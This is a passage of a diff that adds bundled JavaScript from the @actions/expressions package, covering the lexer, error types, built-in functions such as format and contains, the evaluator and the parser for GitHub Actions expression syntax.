+}
+function isLegalIdentifier(str) {
+    if (str == "") {
+        return false;
+    }
+    const first = str[0];
+    if ((first >= "a" && first <= "z") || (first >= "A" && first <= "Z") || first == "_") {
+        for (const c of str.substring(1).split("")) {
+            if ((c >= "a" && c <= "z") || (c >= "A" && c <= "Z") || (c >= "0" && c <= "9") || c == "_" || c == "-") {
+                // OK
+            }
+            else {
+                return false;
+            }
+        }
+        return true;
+    }
+    return false;
+}
+//# sourceMappingURL=lexer.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/errors.js
+
+const MAX_PARSER_DEPTH = 50;
+const MAX_EXPRESSION_LENGTH = 21000;
+var ErrorType;
+(function (ErrorType) {
+    ErrorType[ErrorType["ErrorUnexpectedSymbol"] = 0] = "ErrorUnexpectedSymbol";
+    ErrorType[ErrorType["ErrorUnrecognizedNamedValue"] = 1] = "ErrorUnrecognizedNamedValue";
+    ErrorType[ErrorType["ErrorUnexpectedEndOfExpression"] = 2] = "ErrorUnexpectedEndOfExpression";
+    ErrorType[ErrorType["ErrorExceededMaxDepth"] = 3] = "ErrorExceededMaxDepth";
+    ErrorType[ErrorType["ErrorExceededMaxLength"] = 4] = "ErrorExceededMaxLength";
+    ErrorType[ErrorType["ErrorTooFewParameters"] = 5] = "ErrorTooFewParameters";
+    ErrorType[ErrorType["ErrorTooManyParameters"] = 6] = "ErrorTooManyParameters";
+    ErrorType[ErrorType["ErrorEvenParameters"] = 7] = "ErrorEvenParameters";
+    ErrorType[ErrorType["ErrorUnrecognizedContext"] = 8] = "ErrorUnrecognizedContext";
+    ErrorType[ErrorType["ErrorUnrecognizedFunction"] = 9] = "ErrorUnrecognizedFunction";
+})(ErrorType || (ErrorType = {}));
+class ExpressionError extends Error {
+    constructor(typ, tok) {
+        super(`${errorDescription(typ)}: '${tokenString(tok)}'`);
+        this.typ = typ;
+        this.tok = tok;
+        this.pos = this.tok.range.start;
+    }
+}
+function errorDescription(typ) {
+    switch (typ) {
+        case ErrorType.ErrorUnexpectedEndOfExpression:
+            return "Unexpected end of expression";
+        case ErrorType.ErrorUnexpectedSymbol:
+            return "Unexpected symbol";
+        case ErrorType.ErrorUnrecognizedNamedValue:
+            return "Unrecognized named-value";
+        case ErrorType.ErrorExceededMaxDepth:
+            return `Exceeded max expression depth ${MAX_PARSER_DEPTH}`;
+        case ErrorType.ErrorExceededMaxLength:
+            return `Exceeded max expression length ${MAX_EXPRESSION_LENGTH}`;
+        case ErrorType.ErrorTooFewParameters:
+            return "Too few parameters supplied";
+        case ErrorType.ErrorTooManyParameters:
+            return "Too many parameters supplied";
+        case ErrorType.ErrorEvenParameters:
+            return "Even number of parameters supplied, requires an odd number of parameters";
+        case ErrorType.ErrorUnrecognizedContext:
+            return "Unrecognized named-value";
+        case ErrorType.ErrorUnrecognizedFunction:
+            return "Unrecognized function";
+        default: // Should never reach here.
+            return "Unknown error";
+    }
+}
+class ExpressionEvaluationError extends Error {
+}
+//# sourceMappingURL=errors.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/case.js
+
+const caseFunc = {
+    name: "case",
+    description: "`case( pred1, val1, pred2, val2, ..., default )`\n\nEvaluates predicates in order and returns the value corresponding to the first predicate that evaluates to `true`. If no predicate matches, it returns the last argument as the default value.",
+    minArgs: 3,
+    maxArgs: Number.MAX_SAFE_INTEGER,
+    call: (...args) => {
+        // Evaluate predicate-result pairs
+        for (let i = 0; i < args.length - 1; i += 2) {
+            const predicate = args[i];
+            // Predicate must be a boolean
+            if (predicate.kind !== expressiondata_Kind.Boolean) {
+                throw new Error("case predicate must evaluate to a boolean value");
+            }
+            // If predicate is true, return the corresponding result
+            if (predicate.value) {
+                return args[i + 1];
+            }
+        }
+        // No predicate matched, return default (last argument)
+        return args[args.length - 1];
+    }
+};
+//# sourceMappingURL=case.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/result.js
+
+function result_falsy(d) {
+    switch (d.kind) {
+        case data.Kind.Null:
+            return true;
+        case data.Kind.Boolean:
+            return !d.value;
+        case data.Kind.Number: {
+            const dv = d.value;
+            return dv === 0 || isNaN(dv);
+        }
+        case data.Kind.String:
+            return d.value.length === 0;
+    }
+    return false;
+}
+function result_truthy(d) {
+    return !result_falsy(d);
+}
+// Similar to the Javascript abstract equality comparison algorithm http://www.ecma-international.org/ecma-262/5.1/#sec-11.9.3.
+// Except objects are not coerced to primitives.
+function coerceTypes(li, ri) {
+    let lv = li;
+    let rv = ri;
+    // Do nothing, same kind
+    if (li.kind === ri.kind) {
+        return [lv, rv];
+    }
+    switch (li.kind) {
+        // Number, String
+        case expressiondata_Kind.Number:
+            if (ri.kind === expressiondata_Kind.String) {
+                rv = new NumberData(ri.number());
+                return [lv, rv];
+            }
+            break;
+        // String, Number
+        case expressiondata_Kind.String:
+            if (ri.kind === expressiondata_Kind.Number) {
+                lv = new NumberData(li.number());
+                return [lv, rv];
+            }
+            break;
+        // Boolean|Null, Any
+        case expressiondata_Kind.Null:
+        case expressiondata_Kind.Boolean:
+            lv = new NumberData(li.number());
+            return coerceTypes(lv, rv);
+    }
+    // Any, Boolean|Null
+    switch (ri.kind) {
+        case expressiondata_Kind.Null:
+        case expressiondata_Kind.Boolean:
+            rv = new NumberData(ri.number());
+            return coerceTypes(lv, rv);
+    }
+    return [lv, rv];
+}
+// Similar to the Javascript abstract equality comparison algorithm http://www.ecma-international.org/ecma-262/5.1/#sec-11.9.3.
+// Except string comparison is OrdinalIgnoreCase, and objects are not coerced to primitives.
+function result_equals(lhs, rhs) {
+    const [lv, rv] = coerceTypes(lhs, rhs);
+    if (lv.kind != rv.kind) {
+        return false;
+    }
+    switch (lv.kind) {
+        // Null, Null
+        case expressiondata_Kind.Null:
+            return true;
+        // Number, Number
+        case expressiondata_Kind.Number: {
+            const ld = lv.value;
+            const rd = rv.value;
+            if (isNaN(ld) || isNaN(rd)) {
+                return false;
+            }
+            return ld == rd;
+        }
+        // String, String
+        case expressiondata_Kind.String: {
+            const ls = lv.value;
+            const rs = rv.value;
+            return toUpperSpecial(ls) === toUpperSpecial(rs);
+        }
+        // Boolean, Boolean
+        case expressiondata_Kind.Boolean: {
+            const lb = lv.value;
+            const rb = rv.value;
+            return lb == rb;
+        }
+        // Object, Object
+        case expressiondata_Kind.Dictionary:
+        case expressiondata_Kind.Array:
+            // Check reference equality
+            return lv === rv;
+    }
+    return false;
+}
+// Similar to the Javascript abstract equality comparison algorithm http://www.ecma-international.org/ecma-262/5.1/#sec-11.9.3.
+// Except string comparison is OrdinalIgnoreCase, and objects are not coerced to primitives.
+function result_greaterThan(lhs, rhs) {
+    const [lv, rv] = coerceTypes(lhs, rhs);
+    if (lv.kind != rv.kind) {
+        return false;
+    }
+    switch (lv.kind) {
+        // Number, Number
+        case data.Kind.Number: {
+            const lf = lv.value;
+            const rf = rv.value;
+            if (isNaN(lf) || isNaN(rf)) {
+                return false;
+            }
+            return lf > rf;
+        }
+        // String, String
+        case data.Kind.String: {
+            let ls = lv.value;
+            let rs = rv.value;
+            ls = toUpperSpecial(ls);
+            rs = toUpperSpecial(rs);
+            return ls > rs;
+        }
+        // Boolean, Boolean
+        case data.Kind.Boolean: {
+            const lb = lv.value;
+            const rb = rv.value;
+            return lb && !rb;
+        }
+    }
+    return false;
+}
+// Similar to the Javascript abstract equality comparison algorithm http://www.ecma-international.org/ecma-262/5.1/#sec-11.9.3.
+// Except string comparison is OrdinalIgnoreCase, and objects are not coerced to primitives.
+function result_lessThan(lhs, rhs) {
+    const [lv, rv] = coerceTypes(lhs, rhs);
+    if (lv.kind != rv.kind) {
+        return false;
+    }
+    switch (lv.kind) {
+        // Number, Number
+        case data.Kind.Number: {
+            const lf = lv.value;
+            const rf = rv.value;
+            if (isNaN(lf) || isNaN(rf)) {
+                return false;
+            }
+            return lf < rf;
+        }
+        // String, String
+        case data.Kind.String: {
+            let ls = lv.value;
+            let rs = rv.value;
+            ls = toUpperSpecial(ls);
+            rs = toUpperSpecial(rs);
+            return ls < rs;
+        }
+        // Boolean, Boolean
+        case data.Kind.Boolean: {
+            const lb = lv.value;
+            const rb = rv.value;
+            return !lb && rb;
+        }
+    }
+    return false;
+}
+// Do not toUpper the small-dotless-ı
+function toUpperSpecial(s) {
+    const sb = [];
+    let i = 0;
+    const len = s.length;
+    let found = s.indexOf("ı");
+    while (i < len) {
+        if (i < found) {
+            sb.push(s.substring(i, found).toUpperCase()); // Append upper segment
+            i = found;
+        }
+        else if (i == found) {
+            sb.push(s.substring(i, i + 1));
+            i += 1;
+            found = s.indexOf("ı", i);
+        }
+        else {
+            sb.push(s.substring(i).toUpperCase()); // Append upper remaining
+            break;
+        }
+    }
+    return sb.join("");
+}
+//# sourceMappingURL=result.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/contains.js
+
+
+const contains = {
+    name: "contains",
+    description: "`contains( search, item )`\n\nReturns `true` if `search` contains `item`. If `search` is an array, this function returns `true` if the `item` is an element in the array. If `search` is a string, this function returns `true` if the `item` is a substring of `search`. This function is not case sensitive. Casts values to a string.",
+    minArgs: 2,
+    maxArgs: 2,
+    call: (...args) => {
+        const left = args[0];
+        const right = args[1];
+        if (left.primitive) {
+            const ls = left.coerceString();
+            if (right.primitive) {
+                const rs = right.coerceString();
+                return new BooleanData(ls.toLowerCase().includes(rs.toLowerCase()));
+            }
+        }
+        else if (left.kind === expressiondata_Kind.Array) {
+            const la = left;
+            if (la.values().length === 0) {
+                return new BooleanData(false);
+            }
+            for (const v of la.values()) {
+                if (result_equals(right, v)) {
+                    return new BooleanData(true);
+                }
+            }
+        }
+        return new BooleanData(false);
+    }
+};
+//# sourceMappingURL=contains.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/endswith.js
+
+
+const endswith = {
+    name: "endsWith",
+    description: "`endsWith( searchString, searchValue )`\n\nReturns `true` if `searchString` ends with `searchValue`. This function is not case sensitive. Casts values to a string.",
+    minArgs: 2,
+    maxArgs: 2,
+    call: (...args) => {
+        const left = args[0];
+        if (!left.primitive) {
+            return new BooleanData(false);
+        }
+        const right = args[1];
+        if (!right.primitive) {
+            return new BooleanData(false);
+        }
+        const ls = toUpperSpecial(left.coerceString());
+        const rs = toUpperSpecial(right.coerceString());
+        return new BooleanData(ls.endsWith(rs));
+    }
+};
+//# sourceMappingURL=endswith.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/format.js
+
+const format = {
+    name: "format",
+    description: "`format( string, replaceValue0, replaceValue1, ..., replaceValueN)`\n\nReplaces values in the `string`, with the variable `replaceValueN`. Variables in the `string` are specified using the `{N}` syntax, where `N` is an integer. You must specify at least one `replaceValue` and `string`. There is no maximum for the number of variables (`replaceValueN`) you can use. Escape curly braces using double braces.",
+    minArgs: 1,
+    maxArgs: 255 /*MAX_ARGUMENTS*/,
+    call: (...args) => {
+        const fs = args[0].coerceString();
+        const result = [];
+        let index = 0;
+        while (index < fs.length) {
+            const lbrace = fs.indexOf("{", index);
+            const rbrace = fs.indexOf("}", index);
+            // Left brace
+            if (lbrace >= 0 && (rbrace < 0 || rbrace > lbrace)) {
+                // Escaped left brace
+                if (safeCharAt(fs, lbrace + 1) === "{") {
+                    result.push(fs.substr(index, lbrace - index + 1));
+                    index = lbrace + 2;
+                    continue;
+                }
+                // Left brace, number, optional format specifiers, right brace
+                if (rbrace > lbrace + 1) {
+                    const argIndex = readArgIndex(fs, lbrace + 1);
+                    if (argIndex.success) {
+                        // Check parameter count
+                        if (1 + argIndex.result > args.length - 1) {
+                            throw new Error(`The following format string references more arguments than were supplied: ${fs}`);
+                        }
+                        // Append the portion before the left brace
+                        if (lbrace > index) {
+                            result.push(fs.substr(index, lbrace - index));
+                        }
+                        // Append the arg
+                        result.push(`${args[1 + argIndex.result].coerceString()}`);
+                        index = rbrace + 1;
+                        continue;
+                    }
+                }
+                throw new Error(`The following format string is invalid: ${fs}`);
+            }
+            // Right brace
+            else if (rbrace >= 0) {
+                // Escaped right brace
+                if (safeCharAt(fs, rbrace + 1) === "}") {
+                    result.push(fs.substr(index, rbrace - index + 1));
+                    index = rbrace + 2;
+                }
+                else {
+                    throw new Error(`The following format string is invalid: ${fs}`);
+                }
+            }
+            // Last segment
+            else {
+                result.push(fs.substr(index));
+                break;
+            }
+        }
+        return new StringData(result.join(""));
+    }
+};
+function safeCharAt(string, index) {
+    if (string.length > index) {
+        return string[index];
+    }
+    return "\0";
+}
+function readArgIndex(string, startIndex) {
+    // Count the number of digits
+    let length = 0;
+    for (;;) {
+        const nextChar = safeCharAt(string, startIndex + length);
+        if (nextChar >= "0" && nextChar <= "9") {
+            length++;
+        }
+        else {
+            break;
+        }
+    }
+    // Validate at least one digit
+    if (length < 1) {
+        return {
+            success: false
+        };
+    }
+    // Parse the number
+    const endIndex = startIndex + length - 1;
+    const result = parseInt(string.substr(startIndex, length));
+    return {
+        success: !isNaN(result),
+        result: result,
+        endIndex: endIndex
+    };
+}
+//# sourceMappingURL=format.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/fromjson.js
+
+
+const fromjson = {
+    name: "fromJson",
+    description: "`fromJSON(value)`\n\nReturns a JSON object or JSON data type for `value`. You can use this function to provide a JSON object as an evaluated expression or to convert environment variables from a string.",
+    minArgs: 1,
+    maxArgs: 1,
+    call: (...args) => {
+        const input = args[0];
+        const is = input.coerceString();
+        if (is.trim() === "") {
+            throw new Error("empty input");
+        }
+        try {
+            return JSON.parse(is, reviver);
+        }
+        catch (e) {
+            throw new ExpressionEvaluationError("Error parsing JSON when evaluating fromJson", { cause: e });
+        }
+    }
+};
+//# sourceMappingURL=fromjson.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/join.js
+
+const join = {
+    name: "join",
+    description: "`join( array, optionalSeparator )`\n\nThe value for `array` can be an array or a string. All values in `array` are concatenated into a string. If you provide `optionalSeparator`, it is inserted between the concatenated values. Otherwise, the default separator `,` is used. Casts values to a string.",
+    minArgs: 1,
+    maxArgs: 2,
+    call: (...args) => {
+        // Primitive
+        if (args[0].primitive) {
+            return new StringData(args[0].coerceString());
+        }
+        // Array
+        if (args[0].kind === expressiondata_Kind.Array) {
+            // Separator
+            let separator = ",";
+            if (args.length > 1 && args[1].primitive) {
+                separator = args[1].coerceString();
+            }
+            // Convert items to strings
+            return new StringData(args[0]
+                .values()
+                .map(item => item.coerceString())
+                .join(separator));
+        }
+        return new StringData("");
+    }
+};
+//# sourceMappingURL=join.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/startswith.js
+
+
+const startswith = {
+    name: "startsWith",
+    description: "`startsWith( searchString, searchValue )`\n\nReturns `true` when `searchString` starts with `searchValue`. This function is not case sensitive. Casts values to a string.",
+    minArgs: 2,
+    maxArgs: 2,
+    call: (...args) => {
+        const left = args[0];
+        if (!left.primitive) {
+            return new BooleanData(false);
+        }
+        const right = args[1];
+        if (!right.primitive) {
+            return new BooleanData(false);
+        }
+        const ls = toUpperSpecial(left.coerceString());
+        const rs = toUpperSpecial(right.coerceString());
+        return new BooleanData(ls.startsWith(rs));
+    }
+};
+//# sourceMappingURL=startswith.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/tojson.js
+
+
+const tojson = {
+    name: "toJson",
+    description: "`toJSON(value)`\n\nReturns a pretty-print JSON representation of `value`. You can use this function to debug the information provided in contexts.",
+    minArgs: 1,
+    maxArgs: 1,
+    call: (...args) => {
+        return new StringData(JSON.stringify(args[0], replacer, "  "));
+    }
+};
+//# sourceMappingURL=tojson.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs.js
+
+
+
+
+
+
+
+
+
+const funcs_wellKnownFunctions = {
+    case: caseFunc,
+    contains: contains,
+    endswith: endswith,
+    format: format,
+    fromjson: fromjson,
+    join: join,
+    startswith: startswith,
+    tojson: tojson
+};
+// validateFunction returns the function definition for the given function name.
+// If the function does not exist or an incorrect number of arguments is provided,
+// an error is returned.
+function validateFunction(context, identifier, argCount) {
+    // Expression function names are case-insensitive.
+    const name = identifier.lexeme.toLowerCase();
+    let f;
+    f = funcs_wellKnownFunctions[name];
+    if (!f) {
+        f = context.extensionFunctions.get(name);
+        if (!f) {
+            if (!context.allowUnknownKeywords) {
+                throw new ExpressionError(ErrorType.ErrorUnrecognizedFunction, identifier);
+            }
+            // Skip argument validation for unknown functions
+            return;
+        }
+    }
+    if (argCount < f.minArgs) {
+        throw new ExpressionError(ErrorType.ErrorTooFewParameters, identifier);
+    }
+    if (argCount > f.maxArgs) {
+        throw new ExpressionError(ErrorType.ErrorTooManyParameters, identifier);
+    }
+    // case function requires an odd number of arguments
+    if (name === "case" && argCount % 2 === 0) {
+        throw new ExpressionError(ErrorType.ErrorEvenParameters, identifier);
+    }
+}
+//# sourceMappingURL=funcs.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/evaluator.js
+
+
+
+
+
+
+
+class evaluator_Evaluator {
+    /**
+     * Creates a new evaluator
+     * @param n Parsed expression to evaluate
+     * @param context Context data to use
+     * @param functions Optional map of function implementations. If given, these will be preferred over the built-in functions.
+     */
+    constructor(n, context, functions) {
+        this.n = n;
+        this.context = context;
+        this.functions = functions;
+    }
+    evaluate() {
+        return this.eval(this.n);
+    }
+    eval(n) {
+        return n.accept(this);
+    }
+    visitLiteral(literal) {
+        return literal.literal;
+    }
+    visitUnary(unary) {
+        const r = this.eval(unary.expr);
+        if (unary.operator.type === TokenType.BANG) {
+            return new data.BooleanData(falsy(r));
+        }
+        throw new Error(`unknown unary operator: ${unary.operator.lexeme}`);
+    }
+    visitBinary(binary) {
+        const left = this.eval(binary.left);
+        const right = this.eval(binary.right);
+        switch (binary.operator.type) {
+            case TokenType.EQUAL_EQUAL:
+                return new data.BooleanData(equals(left, right));
+            case TokenType.BANG_EQUAL:
+                return new data.BooleanData(!equals(left, right));
+            case TokenType.GREATER:
+                return new data.BooleanData(greaterThan(left, right));
+            case TokenType.GREATER_EQUAL:
+                return new data.BooleanData(equals(left, right) || greaterThan(left, right));
+            case TokenType.LESS:
+                return new data.BooleanData(lessThan(left, right));
+            case TokenType.LESS_EQUAL:
+                return new data.BooleanData(equals(left, right) || lessThan(left, right));
+        }
+        throw new Error(`unknown binary operator: ${binary.operator.lexeme}`);
+    }
+    visitLogical(logical) {
+        let result;
+        for (const arg of logical.args) {
+            result = this.eval(arg);
+            // Break?
+            if ((logical.operator.type === TokenType.AND && falsy(result)) ||
+                (logical.operator.type === TokenType.OR && truthy(result))) {
+                break;
+            }
+        }
+        // result is always assigned before we return here
+        // eslint-disable-next-line @typescript-eslint/no-non-null-assertion
+        return result;
+    }
+    visitGrouping(grouping) {
+        return this.eval(grouping.group);
+    }
+    visitContextAccess(contextAccess) {
+        // eslint-disable-next-line @typescript-eslint/no-non-null-assertion
+        const r = this.context.get(contextAccess.name.lexeme);
+        return r;
+    }
+    visitIndexAccess(ia) {
+        let idx;
+        if (ia.index instanceof Star) {
+            idx = new idxHelper(true, undefined);
+        }
+        else {
+            let idxResult;
+            try {
+                idxResult = this.eval(ia.index);
+            }
+            catch (e) {
+                throw new Error(`could not evaluate index for index access: ${e.message}`, { cause: e });
+            }
+            idx = new idxHelper(false, idxResult);
+        }
+        const objResult = this.eval(ia.expr);
+        let result;
+        switch (objResult.kind) {
+            case data.Kind.Array: {
+                const tobjResult = objResult;
+                if (tobjResult instanceof FilteredArray) {
+                    result = filteredArrayAccess(tobjResult, idx);
+                }
+                else {
+                    result = arrayAccess(tobjResult, idx);
+                }
+                break;
+            }
+            case data.Kind.Dictionary: {
+                const tobjResult = objResult;
+                result = objectAccess(tobjResult, idx);
+                break;
+            }
+            default:
+                if (idx.star) {
+                    result = new FilteredArray();
+                }
+                else {
+                    result = new data.Null();
+                }
+        }
+        return result;
+    }
+    visitFunctionCall(functionCall) {
+        // Evaluate arguments
+        const args = functionCall.args.map(arg => this.eval(arg));
+        // Get function definitions
+        const functionName = functionCall.functionName.lexeme.toLowerCase();
+        const f = this.functions?.get(functionName) || wellKnownFunctions[functionName];
+        return f.call(...args);
+    }
+}
+function filteredArrayAccess(fa, idx) {
+    const result = new FilteredArray();
+    for (const item of fa.values()) {
+        // Check the type of the nested item
+        switch (item.kind) {
+            case data.Kind.Dictionary: {
+                const ti = item;
+                if (idx.star) {
+                    for (const v of ti.values()) {
+                        result.add(v);
+                    }
+                }
+                else if (idx.str !== undefined) {
+                    const v = ti.get(idx.str);
+                    if (v !== undefined) {
+                        result.add(v);
+                    }
+                }
+                break;
+            }
+            case data.Kind.Array: {
+                const ti = item;
+                if (idx.star) {
+                    for (const v of ti.values()) {
+                        result.add(v);
+                    }
+                }
+                else if (idx.int !== undefined && idx.int < ti.values().length) {
+                    result.add(ti.get(idx.int));
+                }
+                break;
+            }
+        }
+    }
+    return result;
+}
+function arrayAccess(a, idx) {
+    if (idx.star) {
+        const fa = new FilteredArray();
+        for (const item of a.values()) {
+            fa.add(item);
+        }
+        return fa;
+    }
+    if (idx.int !== undefined && idx.int < a.values().length) {
+        return a.get(idx.int);
+    }
+    return new data.Null();
+}
+function objectAccess(obj, idx) {
+    if (idx.star) {
+        const fa = new FilteredArray(...obj.values());
+        return fa;
+    }
+    if (idx.str !== undefined) {
+        const r = obj.get(idx.str);
+        if (r !== undefined) {
+            return r;
+        }
+    }
+    return new data.Null();
+}
+//# sourceMappingURL=evaluator.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/parser.js
+
+
+
+
+
+class parser_Parser {
+    /**
+     * Constructs a new parser for the given tokens
+     *
+     * @param tokens Tokens to build a parse tree from
+     * @param extensionContexts Available context names
+     * @param extensionFunctions Available functions (beyond the built-in ones)
+     */
+    constructor(tokens, extensionContexts, extensionFunctions) {
+        this.tokens = tokens;
+        this.offset = 0;
+        this.depth = 0;
+        this.extContexts = new Map();
+        this.extFuncs = new Map();
+        for (const contextName of extensionContexts) {
+            this.extContexts.set(contextName.toLowerCase(), true);
+        }
+        for (const { name, func } of extensionFunctions.map(x => ({
+            name: x.name,
+            func: x
+        }))) {
+            this.extFuncs.set(name.toLowerCase(), func);
+        }
+        this.context = {
+            allowUnknownKeywords: false,
+            extensionContexts: this.extContexts,
+            extensionFunctions: this.extFuncs
+        };
+    }
+    parse() {
+        // eslint-disable-next-line prefer-const
+        let result;
+        // No tokens
+        if (this.atEnd()) {
+            return result;
+        }
+        result = this.expression();
+        if (!this.atEnd()) {
+            throw this.buildError(ErrorType.ErrorUnexpectedSymbol, this.peek());
+        }
+        return result;
+    }
+    expression() {
+        this.incrDepth();
+        try {
+            return this.logicalOr();
+        }
+        finally {
+            this.decrDepth();
+        }
+    }
+    logicalOr() {
+        // && is higher precedence than ||
+        let expr = this.logicalAnd();
+        if (this.check(lexer_TokenType.OR)) {
+            // Track depth
+            this.incrDepth();
+            try {
+                const logical = new Logical(this.peek(), [expr]);
+                expr = logical;
+                while (this.match(lexer_TokenType.OR)) {
+                    const right = this.logicalAnd();
+                    logical.args.push(right);
+                }
+            }
+            finally {
+                this.decrDepth();
+            }
+        }
+        return expr;
+    }
+    logicalAnd() {
+        // == and != are higher precedence than &&
+        let expr = this.equality();
+        if (this.check(lexer_TokenType.AND)) {
+            // Track depth
+            this.incrDepth();
+            try {
+                const logical = new Logical(this.peek(), [expr]);
+                expr = logical;
+                while (this.match(lexer_TokenType.AND)) {
+                    const right = this.equality();
+                    logical.args.push(right);
+                }
+            }
+            finally {
+                this.decrDepth();
+            }
+        }
+        return expr;
+    }
+    equality() {
+        // >, >=, <, <= are higher precedence than == and !=
+        let expr = this.comparison();
+        while (this.match(lexer_TokenType.BANG_EQUAL, lexer_TokenType.EQUAL_EQUAL)) {
+            const operator = this.previous();
+            const right = this.comparison();
+            expr = new Binary(expr, operator, right);
+        }
+        return expr;
+    }
+    comparison() {
+        // ! is higher precedence than >, >=, <, <=
+        let expr = this.unary();
+        while (this.match(lexer_TokenType.GREATER, lexer_TokenType.GREATER_EQUAL, lexer_TokenType.LESS, lexer_TokenType.LESS_EQUAL)) {
+            const operator = this.previous();
+            const right = this.unary();
+            expr = new Binary(expr, operator, right);
+        }
+        return expr;
+    }
+    unary() {
+        if (this.match(lexer_TokenType.BANG)) {
+            // Track depth
+            this.incrDepth();
+            const operator = this.previous();
+            const unary = this.unary();
+            try {
+                return new Unary(operator, unary);
+            }
+            finally {
+                this.decrDepth();
+            }
+        }
+        return this.index();
+    }
+    index() {
+        let expr = this.call();
+        let depthIncreased = 0;
+        if (expr instanceof Grouping || expr instanceof FunctionCall || expr instanceof ContextAccess) {
+            let cont = true;
+            while (cont) {
+                switch (true) {
+                    case this.match(lexer_TokenType.LEFT_BRACKET): {
+                        let indexExpr;
+                        if (this.match(lexer_TokenType.STAR)) {
+                            indexExpr = new ast_Star();
+                        }
+                        else {
+                            indexExpr = this.expression();
+                        }
+                        this.consume(lexer_TokenType.RIGHT_BRACKET, ErrorType.ErrorUnexpectedSymbol);
+                        // Track depth
+                        this.incrDepth();
+                        depthIncreased++;
+                        expr = new IndexAccess(expr, indexExpr);
+                        break;
+                    }
+                    case this.match(lexer_TokenType.DOT):
+                        // Track depth
+                        this.incrDepth();
+                        depthIncreased++;
+                        if (this.match(lexer_TokenType.IDENTIFIER)) {
+                            const property = this.previous();
+                            expr = new IndexAccess(expr, new Literal(new StringData(property.lexeme), property));
+                        }
+                        else if (this.match(lexer_TokenType.STAR)) {
+                            expr = new IndexAccess(expr, new ast_Star());
+                        }
+                        else {
+                            throw this.buildError(ErrorType.ErrorUnexpectedSymbol, this.peek());
+                        }
+                        break;
+                    default:
+                        cont = false;
+                }
+            }
+        }
+        for (let i = 0; i < depthIncreased; i++) {
+            this.decrDepth();
+        }
+        return expr;
+    }
+    call() {
+        if (!this.check(lexer_TokenType.IDENTIFIER)) {
+            return this.primary();
+        }
+        const identifier = this.next();
+        if (!this.match(lexer_TokenType.LEFT_PAREN)) {
+            if (!this.extContexts.has(identifier.lexeme.toLowerCase())) {
+                throw this.buildError(ErrorType.ErrorUnrecognizedContext, identifier);
+            }
+            return new ContextAccess(identifier);
+        }
+        // Function call
+        const args = [];
+        // Arguments
+        while (!this.match(lexer_TokenType.RIGHT_PAREN)) {
+            const aexp = this.expression();
+            args.push(aexp);
+            if (!this.check(lexer_TokenType.RIGHT_PAREN)) {
+                this.consume(lexer_TokenType.COMMA, ErrorType.ErrorUnexpectedSymbol);
+            }
+        }
+        validateFunction(this.context, identifier, args.length);
+        return new FunctionCall(identifier, args);
+    }
+    primary() {
+        switch (true) {
+            case this.match(lexer_TokenType.FALSE):
+                return new Literal(new BooleanData(false), this.previous());
+            case this.match(lexer_TokenType.TRUE):
+                return new Literal(new BooleanData(true), this.previous());
+            case this.match(lexer_TokenType.NULL):
+                return new Literal(new Null(), this.previous());
+            case this.match(lexer_TokenType.NUMBER):
+                return new Literal(new NumberData(this.previous().value), this.previous());
+            case this.match(lexer_TokenType.STRING):
+                return new Literal(new StringData(this.previous().value), this.previous());
+            case this.match(lexer_TokenType.LEFT_PAREN): {
+                const expr = this.expression();
+                if (this.atEnd()) {
+                    throw this.buildError(ErrorType.ErrorUnexpectedEndOfExpression, this.previous()); // Back up to get the last token before the EOF
+                }
+                this.consume(lexer_TokenType.RIGHT_PAREN, ErrorType.ErrorUnexpectedSymbol);
+                return new Grouping(expr);
+            }
+            case this.atEnd():
+                throw this.buildError(ErrorType.ErrorUnexpectedEndOfExpression, this.previous()); // Back up to get the last token before the EOF
+        }
+        throw this.buildError(ErrorType.ErrorUnexpectedSymbol, this.peek());
+    }
+    // match consumes the next token if it matches any of the given types
+    match(...tokenTypes) {
+        for (const tokenType of tokenTypes) {
+            if (this.check(tokenType)) {
+                this.next();
+                return true;
+            }
+        }
+        return false;
+    }
+    // check peeks whether the next token is of the given type
+    check(tokenType) {
+        if (this.atEnd()) {
+            return false;
+        }
+        return this.peek().type == tokenType;
+    }
+    // atEnd peeks whether the next token is EOF
+    atEnd() {
+        return this.peek().type == lexer_TokenType.EOF;
+    }
+    next() {
+        if (!this.atEnd()) {
+            this.offset++;
+        }
+        return this.previous();
+    }
+    peek() {
+        return this.tokens[this.offset];
+    }
+    // previous returns the previous token
+    previous() {
+        return this.tokens[this.offset - 1];
+    }
+    // consume attempts to consume the next token if it matches the given type. It returns an error of
+    // the given ParseErrorKind otherwise.
+    consume(tokenType, errorType) {
+        if (this.check(tokenType)) {
+            this.next();
+            return;
+        }
+        throw this.buildError(errorType, this.peek());
+    }
+    incrDepth() {
+        this.depth++;
+        if (this.depth > MAX_PARSER_DEPTH) {
+            throw this.buildError(ErrorType.ErrorExceededMaxDepth, this.peek());
+        }
+    }
+    decrDepth() {
+        this.depth--;
+    }
+    buildError(errType, token) {
+        return new ExpressionError(errType, token);
+    }
+}
+//# sourceMappingURL=parser.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/completion.js
+
+
+
+
+
+
+/**
+ * Complete returns a list of completion items for the given expression.
+ * The main functionality is auto-completing functions and context access:
+ * We can only provide assistance if the input is in one of the following forms (with | denoting the cursor position):
+ * - context.path.inp| or context.path['inp| -- auto-complete context access
+ * - context.path.| or context.path['| -- auto-complete context access
+ * - toJS| -- auto-complete function call or top-level
+ * - | -- auto-complete function call or top-level context access
+ *
+ * @param input Input expression
+ * @param context Context available for the expression
+ * @param extensionFunctions List of functions available
+ * @param functions Optional map of functions to use during evaluation
+ * @param featureFlags Optional feature flags to control which features are enabled
+ * @returns Array of completion items
+ */
+function complete(input, context, extensionFunctions, functions, featureFlags) {
+    // Lex
+    const lexer = new Lexer(input);
